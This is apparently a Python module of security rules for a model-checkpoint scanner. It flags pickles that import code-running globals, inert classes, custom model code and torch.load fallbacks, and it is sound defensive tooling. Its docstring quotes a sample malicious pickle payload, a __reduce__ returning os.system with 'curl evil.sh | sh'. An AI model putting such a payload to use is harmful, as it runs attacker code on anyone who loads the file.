"""Untrusted checkpoints: pickles that would run code, and custom model code.

The loader measures (the globals each pickle imports, the files it refused, auto_map and
``*.py`` files); these rules judge. They never open a file.
"""

from fnmatch import fnmatchcase

from ..loader.pickle_scan import is_allowed
from . import rule


def _file_finding(ctx, rel, message, value=None, expected=None, severity=None):
    f = ctx.finding(None, message, value=value, expected=expected, severity=severity)
    f.file = rel
    return f


@rule("IC401", "unsafe-pickle-global", "error",
      options=("safe_globals", "side_file_globals", "allow", "dangerous", "inert", "unknown_severity"), scope="model")
def unsafe_pickle_global(ctx):
    """A pickle file imports a function that can run code (e.g. `os.system`), or a class initcheck does not know.

    ## What it does
    Reads the pickle opcode stream of every file in the model folder that is, or holds, a pickle
    (recognised by content: torch archives, legacy torch files, bare pickles whatever their name,
    `.npy`/`.npz` object arrays, pickles inside zip members) *without unpickling it* and lists the
    globals it imports (`GLOBAL`, `STACK_GLOBAL`, `INST`). Each global is in one of three tiers:

    - allowed: `safe_globals` (what `torch.load(weights_only=True)` accepts) and your `allow`, plus
      `side_file_globals` for pickles initcheck never reads as weights: silent;
    - inert: a class in the `inert` table, whose construction runs no user code: rule IC404 (info);
    - anything else: **dangerous** (a `dangerous` pattern: it can call, import, open, exec or reach
      the OS) is an error; **unknown** (in no list) is reported at `unknown_severity` (error: fail
      closed, a novel gadget is unknown until someone classifies it).

    Whether the file is safe to unpickle and whether its weights were checked are two separate
    statements: a weight file's tensors are read by initcheck's reader from the same parse, every
    unknown global an inert placeholder (nothing imported, nothing called), and judged like any
    other; the message says whether they were. Other pickles in the folder (`training_args.bin`,
    `optimizer.pt`, `rng_state.pth`, a `.pkl`) are never loaded. A file that holds a pickle but
    cannot be scanned is an error when the scan stopped at a limit of the rule pack's `[scan]` table
    (what follows was never seen, and `pickle.load` would run it), a warning when the stream is
    malformed (it breaks off: `pickle.load` runs only what came before, judged above).

    ## Why is this bad?
    Unpickling calls whatever the file names: a `__reduce__` returning
    `(os.system, ("curl evil.sh | sh",))` runs a shell command the moment someone calls
    `torch.load(path, weights_only=False)`, an old transformers, or a training script that
    resumes from `training_args.bin`. A tensor checkpoint needs no such call. An inert class
    (`argparse.Namespace`, omegaconf's `DictConfig`) cannot carry one: every callable a pickle can
    reach is itself a global, judged on its own, so `defaultdict(os.system)` is an error because
    of `os.system`.

    ## Example
    `pytorch_model.bin` imports `posix.system` (how `os.system` is pickled on Linux).

    ## Use instead
    Do not load the file. Ask its author for a safetensors export, or re-export it yourself in a
    sandbox: `torch.load(path, weights_only=True)` then `safetensors.torch.save_file(sd, out)`.
    For a class you have read and trust, add it to `inert` with the reason (or to `allow`).

    ## Options
    - `safe_globals`: globals a weight file may import (exact names).
    - `side_file_globals`: what a pickle that is not loaded may import on top (exact names).
    - `allow`: your additions to `safe_globals` (exact names or fnmatch patterns).
    - `dangerous`: fnmatch patterns that are always an error, whatever the other lists say.
    - `inert`: exact class name -> why building it runs no user code (reported by IC404).
    - `unknown_severity`: the severity of a global in no list (default `error`).
    """
    ckpt = ctx.scan.checkpoint
    if ckpt is None:
        return
    safe = list(ctx.opt("safe_globals")) + list(ctx.opt("allow"))
    side = safe + list(ctx.opt("side_file_globals"))
    unscanned = getattr(ckpt, "unscanned", {})
    for rel, names in sorted(getattr(ckpt, "pickle_globals", {}).items()):
        loaded = rel in ckpt.readers
        allowed = safe if loaded else side
        dangerous = [g for g in names if _dangerous(g, ctx)]
        unknown = [g for g in names if g not in dangerous and not is_allowed(g, allowed) and g not in ctx.opt("inert")]
        what = _tensors_read(ckpt, rel) if loaded else "initcheck does not load this file; nothing should"
        # TorchScript archives pickle their scripted module classes as __torch__.*: a program, not a state dict
        script = ("; it is a TorchScript archive (model code inside): check its model.state_dict() instead"
                  if any(g.startswith("__torch__.") for g in unknown) else "")
        if not dangerous and not unknown:
            continue
        parts = []
        if dangerous:
            parts.append(f"{_shown(dangerous)}, which can run code or reach the system (the `dangerous` list)")
        if unknown:
            parts.append(f"{_shown(unknown)}, unknown to initcheck (neither allowlisted nor an inert class)")
        torch_first = next((g for g in names if g not in ctx.opt("safe_globals")), (dangerous + unknown)[0])
        outside = dangerous + unknown + [g for g in names if g not in ctx.opt("safe_globals") and g not in dangerous + unknown]
        yield _file_finding(ctx, rel, f"{rel} imports {'; and '.join(parts)} when unpickled: torch.load(weights_only=True) "
                                      f"raises UnpicklingError on {torch_first} unless torch.serialization.add_safe_globals "
                                      f"lists it, and weights_only=False would import and call {_shown(outside)} ({what}){script}",
                            value=", ".join(dangerous + unknown)[:300], expected="allowlisted or inert globals only",
                            severity=None if dangerous else ctx.opt("unknown_severity"))
    bound = getattr(ckpt, "unscanned_bound", set())
    for rel, why in sorted(unscanned.items()):
        # past a bound, the rest of the stream was never seen and pickle.load would still run it: fail
        # closed. A stream that breaks off ran only what was read before the break (judged above).
        past = rel in bound
        yield _file_finding(ctx, rel, f"{rel} could not be scanned for pickles ({why}); it was not loaded: treat it "
                                      "as unsafe and do not unpickle it"
                                      + ("; the scan stopped at a bound before the end, and pickle.load would run "
                                         "what follows unseen" if past else ""),
                            value=why[:300], expected="a scannable file", severity="error" if past else "warning")


def _dangerous(name: str, ctx) -> bool:
    return any(fnmatchcase(name, p) for p in ctx.opt("dangerous"))


def _shown(names: list) -> str:
    return ", ".join(names[:5]) + (f" and {len(names) - 5} more" if len(names) > 5 else "")


def _tensors_read(ckpt, rel: str) -> str:
    """Whether a weight file's tensors were checked, for the message beside its pickle verdict."""
    reader = ckpt.readers[rel]
    if getattr(reader, "reader", "initcheck") is None:
        why = getattr(reader, "unread", "")
        return "not loaded: its tensors are absent from this check" + (f"; {why}" if why else "")
    n = len(reader.entries)
    if getattr(reader, "reader", "") == "torch.load":
        return f"its {n} tensor(s) were read by torch.load(weights_only=True) and judged"
    if rel not in ckpt.refused:
        return f"its {n} tensor(s) were read by initcheck's reader and judged"
    return (f"the file is not loaded (never unpickled, nor handed to transformers for a task model or probe); its {n} "
            "tensor(s) were read from the parse by initcheck's reader, its objects as placeholders, and judged")


@rule("IC404", "inert-pickle-objects", "info", scope="model")
def inert_pickle_objects(ctx):
    """A pickle file imports classes outside torch's weights-only allowlist that are inert.

    ## What it does
    Lists, once per file, the classes of the IC401 `inert` table that a pickle imports: classes
    whose construction while unpickling runs no user code and touches nothing outside the object
    (`argparse.Namespace`, omegaconf's `DictConfig` and nodes, `typing.Any`, `collections.defaultdict`,
    `torch.torch_version.TorchVersion`, `pathlib` paths, numpy scalars and dtypes, Lightning's
    `AttributeDict`). A Lightning `.ckpt` with omegaconf hyperparameters or a `training_args.bin`
    holding an `argparse.Namespace` is reported here, not as an IC401 error, and a weight file's
    tensors are read and judged.

    Harmless look-alike: a file that imports only the tensor-rebuild allowlist is not reported.
    A file that also imports a dangerous or unknown global is an IC401 error for that global.

    ## Why is this bad?
    It is not a defect. `torch.load(path, weights_only=True)` refuses such a file (an
    UnpicklingError naming the first class) unless `torch.serialization.add_safe_globals` lists the
    classes, so code that loads it must do that, or use `weights_only=False`, which is safe only
    as long as every global in the file is one of these.

    ## Example
    `last.ckpt imports omegaconf.dictconfig.DictConfig, typing.Any, collections.defaultdict (inert)`.

    ## Use instead
    Save the weights alone (`trainer.save_checkpoint(path, weights_only=True)`, or
    `safetensors.torch.save_file(model.state_dict(), path)`), or load the file with
    `torch.serialization.add_safe_globals([...])` naming these classes.
    """
    ckpt = ctx.scan.checkpoint
    for rel, names in sorted((getattr(ckpt, "inert_globals", None) or {}).items()):
        read = f"; {_tensors_read(ckpt, rel)}" if rel in ckpt.readers else ""
        yield _file_finding(ctx, rel, f"{rel} imports {_shown(names)}: inert classes (building them runs no user code), "
                                      f"outside torch.load(weights_only=True)'s allowlist{read}", value=", ".join(names)[:300])


@rule("IC402", "custom-model-code", "warning", scope="model")
def custom_model_code(ctx):
    """The checkpoint ships its own Python code (auto_map or *.py files).

    ## What it does
    Reports `auto_map` entries in config.json / adapter_config.json, tokenizer_config.json and
    the processor configs (preprocessor_config.json, processor_config.json, ...) and `*.py`
    files in the model folder. initcheck never imports them; transformers would only with
    `trust_remote_code=True` (initcheck passes `trust_remote_code` explicitly to every
    transformers call, True only when you give `--trust-remote-code`, so nothing is asked on
    stdin; without the flag the probe does not load a tokenizer or processor that names code,
    and says so).

    ## Why is this bad?
    `trust_remote_code=True` runs that code with your permissions at load time, in every job
    that loads the model. A checkpoint from a vendor or a hub mirror can hide anything there,
    and a model that needs custom code is also pinned to that code's version.

    ## Example
    config.json has `"auto_map": {"AutoModel": "modeling_evil.EvilModel"}` and the folder holds
    `modeling_evil.py`.

    ## Use instead
    Read the code before passing `--trust-remote-code` (or `trust_remote_code=True`), pin the
    revision, or use an architecture that transformers ships natively.
    """
    ckpt = ctx.scan.checkpoint
    code = getattr(ckpt, "custom_code", None) if ckpt is not None else None
    if not code:
        return
    parts = []
    if code.get("auto_map"):
        am = code["auto_map"]
        parts.append("auto_map " + ", ".join(f"{k} -> {v}" for k, v in list(am.items())[:4])
                     + (f" (+{len(am) - 4})" if len(am) > 4 else ""))
    if code.get("python_files"):
        py = code["python_files"]
        parts.append("Python files " + ", ".join(py[:5]) + (f" (+{len(py) - 5})" if len(py) > 5 else ""))
    yield ctx.finding(None, "custom model code: " + "; ".join(parts) + " (not imported; transformers runs it only "
                      "with trust_remote_code)", value=len(code.get("auto_map", {})) + len(code.get("python_files", [])))


@rule("IC403", "torch-load-fallback", "info", scope="model")
def torch_load_fallback(ctx):
    """A pickle weight file that initcheck's own reader handed to `torch.load(weights_only=True)`.

    ## What it does
    Every `.bin` / `.pt` / `.pth` / `.ckpt` weight file is read by initcheck's own restricted
    reader, without torch: its pickle is interpreted with the tensor-rebuild globals only, and
    each tensor is a memory-mapped view of the stored bytes. Layouts that reader does not know
    (compressed zip members, fp8 "fnuz" storages, storage classes outside the list) are handed
    to `torch.load(weights_only=True)` on a torch new enough to be safe (>= 2.10), only when every
    global the file imports is in torch's allowlist and its storages declare at most the pack's
    `[scan]` `torch_load_max_bytes`; this rule names each such file and why, so a report says which
    path read it. With `INITCHECK_NO_TORCH_LOAD=1` those files are refused instead.

    Harmless look-alike: files read by initcheck's own reader (the JSON file table's
    `reader: "initcheck"`) are not reported.

    ## Why is this bad?
    It is not a defect: `torch.load` loads the whole file into memory (slower, and memory grows
    with the checkpoint), and it is torch's unpickler, not initcheck's, that met the file.

    ## Example
    `ckpt.pt: read with torch.load(weights_only=True): initcheck's reader does not know
    compressed storage records`.

    ## Use instead
    Re-save the file uncompressed with `torch.save`, or as safetensors.
    """
    ckpt = ctx.scan.checkpoint
    for rel, reader in sorted((getattr(ckpt, "readers", None) or {}).items()):
        if getattr(reader, "reader", None) == "torch.load":
            f = ctx.finding(None, f"{rel}: read with torch.load(weights_only=True): initcheck's reader does not "
                                  f"know {reader.fallback_reason}")
            f.file = rel
            yield f
